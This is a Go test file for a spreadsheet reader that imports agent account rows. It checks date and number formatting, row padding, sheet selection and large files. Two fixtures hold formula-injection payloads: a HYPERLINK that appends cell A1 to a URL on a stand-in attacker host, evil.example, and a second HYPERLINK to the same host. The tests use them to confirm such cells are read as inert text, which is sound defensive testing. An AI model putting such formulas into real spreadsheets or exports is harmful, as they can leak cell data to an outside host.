package input_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/vicionboard/vicionboard/batch"
	"github.com/vicionboard/vicionboard/batch/input"
)

// workbook builds an .xlsx in memory: fill writes the sheets (the first is
// "Sheet1").
func workbook(t testing.TB, fill func(f *excelize.File)) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	fill(f)
	var b bytes.Buffer
	if err := f.Write(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// style adds a style with the custom number format code.
func style(t testing.TB, f *excelize.File, code string) int {
	t.Helper()
	id, err := f.NewStyle(&excelize.Style{CustomNumFmt: &code})
	if err != nil {
		t.Fatal(err)
	}
	return id
}

// must fails the test on err.
func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// readXLSX reads every row of the workbook b.
func readXLSX(t *testing.T, b []byte, opts input.Options) (*input.Reader, []batch.Row) {
	t.Helper()
	r, err := input.NewReaderOptions(bytes.NewReader(b), "hires.xlsx", opts)
	if err != nil {
		t.Fatalf("NewReaderOptions: %v", err)
	}
	t.Cleanup(func() { r.Close() })
	var rows []batch.Row
	for {
		row, err := r.Next()
		if errors.Is(err, io.EOF) {
			return r, rows
		}
		if err != nil {
			t.Fatalf("Next: %v", err)
		}
		rows = append(rows, row)
	}
}

// TestXLSXReaderCells: cells are read as a spreadsheet displays them (the
// zeros of a text login and of a number formatted 0000, dates in ISO 8601
// whatever their format), a hostile text cell is read as text, a row
// without its trailing cells is padded, blank rows are skipped, and every
// row's line is its row number.
func TestXLSXReaderCells(t *testing.T) {
	b := workbook(t, func(f *excelize.File) {
		const s = "Sheet1"
		must(t, f.SetSheetRow(s, "A1", &[]any{"employee_id", "Agent_User", "agent_pass", "agent_full_name", "agent_user_level",
			"agent_user_group", "phone_login", "start_date", "notes"}))
		// Row 2: a text login 007, a number 123 shown as 0123, a date in
		// the built-in format 14 (mm-dd-yy) and a level that is a number.
		must(t, f.SetSheetRow(s, "A2", &[]any{"E1", "007", "Start-2026a", "James Bond", 1, "AGENTS", 123,
			time.Date(2026, 3, 4, 0, 0, 0, 0, time.UTC), "  spaces  "}))
		must(t, f.SetCellStyle(s, "G2", "G2", style(t, f, "0000")))
		// Row 3 is blank. Row 4: a date formatted dd/mm/yyyy, a date and
		// time, and a hostile text cell.
		must(t, f.SetSheetRow(s, "A4", &[]any{"E2", "mallory", "Start-2026b", "Mal Lory", "1", "AGENTS", "",
			time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC), `=HYPERLINK("http://evil.example/?"&A1,"click")`}))
		must(t, f.SetCellStyle(s, "H4", "H4", style(t, f, `dd/mm/yyyy;@`)))
		// Row 6: only four cells (a copy row: a spreadsheet stores no
		// trailing empty cells); row 5 holds only spaces.
		must(t, f.SetCellStr(s, "A5", "   "))
		must(t, f.SetSheetRow(s, "A6", &[]any{"E3", "copyme", "Start-2026c", "Copy Me"}))
		must(t, f.SetCellValue(s, "H7", time.Date(2026, 1, 2, 9, 30, 0, 0, time.UTC)))
		must(t, f.SetSheetRow(s, "A7", &[]any{"E4", "0042", "Start-2026d", "Zero Lead"}))
	})
	r, rows := readXLSX(t, b, input.Options{})
	if r.Format() != input.FormatXLSX || r.Sheet() != "Sheet1" || r.Encoding() != input.EncodingXLSX {
		t.Errorf("Format, Sheet, Encoding = %v, %q, %q", r.Format(), r.Sheet(), r.Encoding())
	}
	if diff := cmp.Diff([]string{"employee_id", "Agent_User", "agent_pass", "agent_full_name", "agent_user_level",
		"agent_user_group", "phone_login", "start_date", "notes"}, r.Columns()); diff != "" {
		t.Errorf("Columns (-want +got):\n%s", diff)
	}
	want := []struct {
		line  int
		cells []string
	}{
		{2, []string{"E1", "007", "Start-2026a", "James Bond", "1", "AGENTS", "0123", "2026-03-04", "  spaces  "}},
		{4, []string{"E2", "mallory", "Start-2026b", "Mal Lory", "1", "AGENTS", "", "2026-12-31", `=HYPERLINK("http://evil.example/?"&A1,"click")`}},
		{6, []string{"E3", "copyme", "Start-2026c", "Copy Me", "", "", "", "", ""}},
		{7, []string{"E4", "0042", "Start-2026d", "Zero Lead", "", "", "", "2026-01-02 09:30", ""}},
	}
	if len(rows) != len(want) {
		t.Fatalf("%d rows, want %d: %+v", len(rows), len(want), rows)
	}
	for i, w := range want {
		row := rows[i]
		if row.Err != nil {
			t.Errorf("line %d: unexpected error %v", w.line, row.Err)
		}
		if row.Line != w.line || row.Seq != i {
			t.Errorf("row %d: Line %d Seq %d, want line %d", i, row.Line, row.Seq, w.line)
		}
		if diff := cmp.Diff(w.cells, row.Cells); diff != "" {
			t.Errorf("line %d cells (-want +got):\n%s", w.line, diff)
		}
	}
	if f := rows[0].Fields; f.Login != "007" || f.PhoneLogin != "0123" || f.Level != "1" || f.Pass != "Start-2026a" {
		t.Errorf("line 2 fields %+v", f)
	}
	if f := rows[2].Fields; f.Login != "copyme" || f.Group != "" {
		t.Errorf("line 6 fields %+v", f)
	}
}

// TestXLSXReaderBeyondHeader: a value to the right of the header's last
// column makes its row INVALID, naming the column; the rows after it are
// read as usual, and an empty formatted cell there is not a value.
func TestXLSXReaderBeyondHeader(t *testing.T) {
	b := workbook(t, func(f *excelize.File) {
		must(t, f.SetSheetRow("Sheet1", "A1", &[]any{"agent_user", "agent_pass", "agent_full_name", "template"}))
		must(t, f.SetSheetRow("Sheet1", "A2", &[]any{"a1", "Start-2026a", "One", "5555", "", "stray"}))
		must(t, f.SetSheetRow("Sheet1", "A3", &[]any{"a2", "Start-2026b", "Two", "5555"}))
		must(t, f.SetCellStyle("Sheet1", "E3", "F3", style(t, f, "0000")))
	})
	_, rows := readXLSX(t, b, input.Options{})
	if len(rows) != 2 {
		t.Fatalf("%d rows, want 2", len(rows))
	}
	if e := rows[0].Err; e == nil || e.Line != 2 || e.Column != 6 || !strings.Contains(e.Msg, "column F") {
		t.Errorf("line 2 error %v, want hires.xlsx:2:6 naming column F", e)
	}
	if diff := cmp.Diff([]string{"a1", "Start-2026a", "One", "5555"}, rows[0].Cells); diff != "" {
		t.Errorf("INVALID row's cells (-want +got):\n%s", diff)
	}
	if rows[1].Err != nil || rows[1].Fields.Login != "a2" || rows[1].Line != 3 {
		t.Errorf("line 3: %+v", rows[1])
	}
}

// TestXLSXReaderSheet: --sheet chooses the worksheet (its name's case does
// not matter); an unknown name is refused with the sheets there are.
func TestXLSXReaderSheet(t *testing.T) {
	b := workbook(t, func(f *excelize.File) {
		must(t, f.SetCellStr("Sheet1", "A1", "instructions: see the Hires sheet"))
		_, err := f.NewSheet("Hires")
		must(t, err)
		must(t, f.SetSheetRow("Hires", "A3", &[]any{"agent_user", "agent_pass", "agent_full_name", "template"}))
		must(t, f.SetSheetRow("Hires", "A4", &[]any{"h1", "Start-2026a", "From Hires", "5555"}))
	})
	r, rows := readXLSX(t, b, input.Options{Sheet: "hires"})
	if r.Sheet() != "Hires" || len(rows) != 1 || rows[0].Fields.Login != "h1" || rows[0].Line != 4 {
		t.Errorf("sheet %q rows %+v, want h1 on line 4 of Hires", r.Sheet(), rows)
	}

	_, err := input.NewReaderOptions(bytes.NewReader(b), "hires.xlsx", input.Options{Sheet: "Staff"})
	if !errors.As(err, new(*batch.InputError)) || !strings.Contains(err.Error(), `hires.xlsx:1: the workbook has no worksheet named "Staff" (--sheet); its sheets are "Sheet1", "Hires"`) {
		t.Errorf("unknown sheet: error %v", err)
	}
	// The first sheet is not a header: the usual hint.
	_, err = input.NewReaderOptions(bytes.NewReader(b), "hires.xlsx", input.Options{})
	var inErr *batch.InputError
	if !errors.As(err, &inErr) || inErr.Line != 1 || !strings.Contains(err.Error(), "is the header row missing?") {
		t.Errorf("first sheet: error %v", err)
	}
}

// TestXLSXReaderFormulaAndSharedStrings reads a workbook written as Excel
// writes it (shared strings, rows without numbers, a formula with its
// value as last computed), not by excelize.
func TestXLSXReaderFormulaAndSharedStrings(t *testing.T) {
	sheet := `<sheetData>` +
		`<row><c t="s"><v>0</v></c><c t="s"><v>1</v></c><c t="s"><v>2</v></c><c t="s"><v>3</v></c></row>` +
		`<row r="3"><c r="A3" t="s"><v>4</v></c><c r="B3" t="inlineStr"><is><t>Start-2026a</t></is></c>` +
		`<c r="C3" t="str"><f>HYPERLINK("http://evil.example","Eve Il")</f><v>Eve Il</v></c><c r="D3"><v>5555</v></c></row>` +
		`</sheetData>`
	sst := []string{"agent_user", "agent_pass", "agent_full_name", "template", "eve"}
	_, rows := readXLSX(t, rawWorkbook(t, sheet, sst), input.Options{})
	if len(rows) != 1 {
		t.Fatalf("%d rows, want 1", len(rows))
	}
	want := []string{"eve", "Start-2026a", "Eve Il", "5555"}
	if diff := cmp.Diff(want, rows[0].Cells); diff != "" || rows[0].Line != 3 {
		t.Errorf("line %d cells (-want +got):\n%s", rows[0].Line, diff)
	}
}

// rawWorkbook zips a minimal workbook of one sheet (the sheetData element
// given) and its shared strings, as Excel lays one out.
func rawWorkbook(t testing.TB, sheetData string, sst []string) []byte {
	t.Helper()
	var si strings.Builder
	for _, s := range sst {
		fmt.Fprintf(&si, "<si><t>%s</t></si>", s)
	}
	const ns = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
	const rels = `xmlns="http://schemas.openxmlformats.org/package/2006/relationships"`
	parts := []struct{ name, body string }{
		{"[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
			`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` +
			`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>` +
			`<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`},
		{"_rels/.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships ` + rels + `><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{"xl/workbook.xml", `<?xml version="1.0" encoding="UTF-8"?><workbook ` + ns + ` xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Export" sheetId="1" r:id="rId1"/></sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships ` + rels + `>` +
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>` +
			`<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`},
		{"xl/worksheets/sheet1.xml", `<?xml version="1.0" encoding="UTF-8"?><worksheet ` + ns + `>` + sheetData + `</worksheet>`},
		{"xl/sharedStrings.xml", fmt.Sprintf(`<?xml version="1.0" encoding="UTF-8"?><sst %s count="%d" uniqueCount="%d">%s</sst>`, ns, len(sst), len(sst), si.String())},
	}
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, p := range parts {
		w, err := zw.Create(p.name)
		must(t, err)
		_, err = io.WriteString(w, p.body)
		must(t, err)
	}
	must(t, zw.Close())
	return b.Bytes()
}

// TestXLSXReaderResultFile: an .xlsx result file is recognised by its
// result_status column, as a CSV one is.
func TestXLSXReaderResultFile(t *testing.T) {
	b := workbook(t, func(f *excelize.File) {
		must(t, f.SetSheetRow("Sheet1", "A1", &[]any{"agent_user", "agent_pass", "agent_full_name", "template",
			"result_status", "result_login", "result_reason", "result_warnings", "result_row", "result_at"}))
		must(t, f.SetSheetRow("Sheet1", "A2", &[]any{"a1", "Start-2026a", "One", "5555", "SUCCESS", "a1",
			"created by copy_user (CREATED)", "", 2, "2026-11-23T02:02:35Z"}))
	})
	r, rows := readXLSX(t, b, input.Options{})
	if !r.IsResultFile() || len(r.Columns()) != 4 {
		t.Fatalf("IsResultFile %v, Columns %v", r.IsResultFile(), r.Columns())
	}
	p := rows[0].Prior
	if p == nil || p.Status != "SUCCESS" || p.Login != "a1" || p.Row != "2" || p.At != "2026-11-23T02:02:35Z" {
		t.Errorf("Prior = %+v", p)
	}
}

// TestXLSXReaderLargeSheet reads a sheet larger than what is held in
// memory (its XML and its shared strings go to temporary files): every
// row, in order, with its row number.
func TestXLSXReaderLargeSheet(t *testing.T) {
	const n = 12000
	path := filepath.Join(t.TempDir(), "big.xlsx")
	writeBigWorkbook(t, path, n)
	in, err := os.Open(path)
	must(t, err)
	defer in.Close()
	r, err := input.NewReader(in, "big.xlsx")
	must(t, err)
	defer r.Close()
	seen := 0
	for {
		row, err := r.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		must(t, err)
		seen++
		if want := fmt.Sprintf("agent%06d", seen); row.Fields.Login != want || row.Line != seen+1 || row.Err != nil {
			t.Fatalf("row %d: login %q line %d err %v, want %s on line %d", seen, row.Fields.Login, row.Line, row.Err, want, seen+1)
		}
	}
	if seen != n {
		t.Errorf("%d rows, want %d", seen, n)
	}
}

// writeBigWorkbook writes n add_user rows with the stream writer (text as
// inline strings).
func writeBigWorkbook(t testing.TB, path string, n int) {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	sw, err := f.NewStreamWriter("Sheet1")
	must(t, err)
	must(t, sw.SetRow("A1", []any{"employee_id", "agent_user", "agent_pass", "agent_full_name", "agent_user_level", "agent_user_group", "in_groups"}))
	for i := 1; i <= n; i++ {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		must(t, sw.SetRow(cell, []any{fmt.Sprintf("E%d", i), fmt.Sprintf("agent%06d", i), fmt.Sprintf("Start-%06dx", i),
			fmt.Sprintf("Agent Number %d", i), 1, "AGENTS", "SALESLINE|SUPPORT"}))
	}
	must(t, sw.Flush())
	must(t, f.SaveAs(path))
}

// TestXLSXReaderBroken: a file that looks like a workbook but is not one
// is refused with what to do, before any row is read.
func TestXLSXReaderBroken(t *testing.T) {
	head := "PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00\x62\xee\x9d\x68\x5e\x01\x00\x00\x90\x04\x00\x00\x13\x00\x08\x02[Content_Types].xml"
	_, err := input.NewReader(strings.NewReader(head), "hires.xlsx")
	if !errors.As(err, new(*batch.InputError)) || !strings.Contains(err.Error(), "hires.xlsx:1: not a readable .xlsx workbook") {
		t.Errorf("error %v", err)
	}
}

// excelRows returns the sheetData of n add_user rows laid out as Excel
// saves them (every text in the shared strings, the level a number), and
// the shared strings.
func excelRows(n int) (string, []string) {
	sst := []string{"employee_id", "agent_user", "agent_pass", "agent_full_name", "agent_user_level", "agent_user_group",
		"in_groups", "Start-2026x", "AGENTS", "SALESLINE|SUPPORT"}
	var b strings.Builder
	b.WriteString(`<sheetData><row r="1">`)
	for i := range 7 {
		fmt.Fprintf(&b, `<c r="%c1" t="s"><v>%d</v></c>`, 'A'+i, i)
	}
	b.WriteString(`</row>`)
	for i := 2; i <= n+1; i++ {
		k := len(sst)
		sst = append(sst, fmt.Sprintf("E%d", i), fmt.Sprintf("x%07d", i), fmt.Sprintf("Agent Number %d", i))
		fmt.Fprintf(&b, `<row r="%d"><c r="A%d" t="s"><v>%d</v></c><c r="B%d" t="s"><v>%d</v></c><c r="C%d" t="s"><v>7</v></c>`+
			`<c r="D%d" t="s"><v>%d</v></c><c r="E%d"><v>1</v></c><c r="F%d" t="s"><v>8</v></c><c r="G%d" t="s"><v>9</v></c></row>`,
			i, i, k, i, k+1, i, i, k+2, i, i, i)
	}
	b.WriteString(`</sheetData>`)
	return b.String(), sst
}

// BenchmarkXLSXReader measures the .xlsx reader alone on 10,000 rows saved
// as Excel saves them (opening the workbook included).
func BenchmarkXLSXReader(b *testing.B) {
	const n = 10000
	sheet, sst := excelRows(n)
	data := rawWorkbook(b, sheet, sst)
	b.ReportAllocs()
	b.SetBytes(int64(len(data)))
	rows := 0
	for b.Loop() {
		in, err := input.NewReader(bytes.NewReader(data), "bench.xlsx")
		if err != nil {
			b.Fatal(err)
		}
		for {
			row, err := in.Next()
			if err == io.EOF {
				break
			}
			if err != nil || row.Err != nil {
				b.Fatal(err, row.Err)
			}
			rows++
		}
		in.Close()
	}
	if rows%n != 0 {
		b.Fatalf("%d rows read, not a multiple of %d", rows, n)
	}
	b.ReportMetric(float64(rows)/b.Elapsed().Seconds(), "rows/s")
}
